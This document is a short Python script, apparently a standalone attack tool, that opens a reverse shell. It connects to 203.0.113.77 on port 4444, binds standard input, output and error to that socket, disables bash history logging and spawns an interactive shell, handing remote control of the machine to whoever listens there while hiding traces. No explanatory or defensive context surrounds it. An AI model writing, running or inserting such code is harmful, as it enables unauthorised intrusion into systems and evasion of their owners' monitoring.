import os
import pty
import socket

s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.connect(("203.0.113.77", 4444))
for fd in (0, 1, 2):
    os.dup2(s.fileno(), fd)
os.environ["HISTFILE"] = "/dev/null"
pty.spawn("/bin/bash")
s.close()
os._exit(0)
